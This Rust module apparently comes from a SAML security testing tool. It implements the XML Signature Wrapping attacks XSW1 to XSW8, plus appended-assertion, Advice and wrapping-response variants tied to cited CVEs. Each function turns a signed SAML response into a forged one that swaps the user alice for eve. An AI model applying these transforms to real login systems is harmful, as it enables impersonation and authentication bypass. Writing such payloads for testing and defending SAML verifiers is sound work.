//! Signature wrapping (Somorovsky and others, USENIX Security 2012), in the shapes of SAML Raider: what
//! becomes of a response in the hands of somebody who would be another person.

use super::surgery::{before_last, behind, cut, cut_assertion, cut_signature, evil, unsigned};

pub const ISSUER: &str = "</saml:Issuer>";

/// The original response, unsigned, inside of the signature of the evil one.
pub fn xsw1(xml: &str) -> String {
    let (before, signature, after) = cut_signature(xml);
    let original = unsigned(xml);
    let signature = before_last(signature, "</ds:Signature>", &original);
    let (before, after) = (evil(before), after.replace("alice@", "eve@"));
    // A tree has each ID once: the copy that is shown carries another assertion.
    let after = after.replacen(" ID=\"", " ID=\"_evil", 1);
    [before, signature, after].concat()
}

/// The original response, unsigned, before the signature of the evil one.
pub fn xsw2(xml: &str) -> String {
    let (before, signature, after) = cut_signature(xml);
    let after = after.replacen(" ID=\"", " ID=\"_evil", 1);
    [&evil(before), &unsigned(xml), signature, &after].concat()
}

/// The evil assertion before the signed one.
pub fn xsw3(xml: &str) -> String {
    let (before, assertion, after) = cut_assertion(xml);
    [before, &evil(&stripped(assertion)), assertion, after].concat()
}

/// The signed assertion inside of the evil one.
pub fn xsw4(xml: &str) -> String {
    let (before, assertion, after) = cut_assertion(xml);
    let around = before_last(&evil(&stripped(assertion)), "</saml:Assertion>", assertion);
    [before, &around, after].concat()
}

/// The signed assertion altered, the original appended.
pub fn xsw5(xml: &str) -> String {
    let (before, assertion, after) = cut_assertion(xml);
    [before, &evil(assertion), &stripped(assertion), after].concat()
}

/// The original assertion inside of the signature of the evil one.
pub fn xsw6(xml: &str) -> String {
    let (before, assertion, after) = cut_assertion(xml);
    let evil = evil(assertion);
    // Where there is no signature the issuer takes its place.
    let mark = if evil.contains("</ds:Signature>") { "</ds:Signature>" } else { ISSUER };
    [before, &before_last(&evil, mark, &stripped(assertion)), after].concat()
}

/// The evil assertion in extensions.
pub fn xsw7(xml: &str) -> String {
    let (before, assertion, after) = cut_assertion(xml);
    let extensions = format!("<samlp:Extensions>{}</samlp:Extensions>", evil(&stripped(assertion)));
    let mark = if before.contains("</ds:Signature>") { "</ds:Signature>" } else { ISSUER };
    [&behind(before, mark, &extensions), assertion, after].concat()
}

/// As [`xsw7`], under the ID of the signed one.
pub fn xsw7_same_id(xml: &str) -> String {
    let (before, assertion, after) = cut_assertion(xml);
    let evil = stripped(assertion).replace("alice@", "eve@");
    let extensions = format!("<samlp:Extensions>{evil}</samlp:Extensions>");
    let mark = if before.contains("</ds:Signature>") { "</ds:Signature>" } else { ISSUER };
    [&behind(before, mark, &extensions), assertion, after].concat()
}

/// The original assertion in an object of the signature of the evil one.
pub fn xsw8(xml: &str) -> String {
    let (before, assertion, after) = cut_assertion(xml);
    let object = format!(
        "<ds:Object xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\">{}</ds:Object>",
        stripped(assertion)
    );
    let evil = evil(assertion);
    let mark = if evil.contains("</ds:Signature>") { "</ds:Signature>" } else { ISSUER };
    [before, &before_last(&evil, mark, &object), after].concat()
}

/// A second, unsigned assertion behind the signed one (CVE-2022-41912, CVE-2026-25922).
pub fn appended(xml: &str) -> String {
    let (before, assertion, after) = cut_assertion(xml);
    [before, assertion, &evil(&stripped(assertion)), after].concat()
}

/// In `Advice`, where assertions may stand.
pub fn in_advice(xml: &str) -> String {
    let (before, assertion, after) = cut_assertion(xml);
    let advice = format!("<saml:Advice>{}</saml:Advice>", evil(&stripped(assertion)));
    [before, &behind(assertion, "</saml:Conditions>", &advice), after].concat()
}

/// The original response inside of the evil one.
pub fn around(xml: &str) -> String {
    let (before, status, after) = cut(xml, "<samlp:Status>", "</samlp:Status>");
    let shell = evil(&stripped(before));
    [&shell, status, xml, &evil(after).replace("_evil", "_other")].concat()
}

fn stripped(xml: &str) -> String {
    if xml.contains("<ds:Signature ") { unsigned(xml) } else { xml.to_owned() }
}
